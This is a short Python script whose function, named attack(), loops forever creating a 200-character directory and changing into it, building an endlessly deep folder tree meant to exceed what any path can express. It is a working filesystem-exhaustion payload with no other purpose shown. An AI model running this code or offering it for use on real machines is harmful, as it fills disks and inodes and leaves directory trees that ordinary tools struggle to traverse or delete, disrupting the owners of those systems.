"""Makes folders in folders, deeper than any path can say."""
import os


def attack():
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
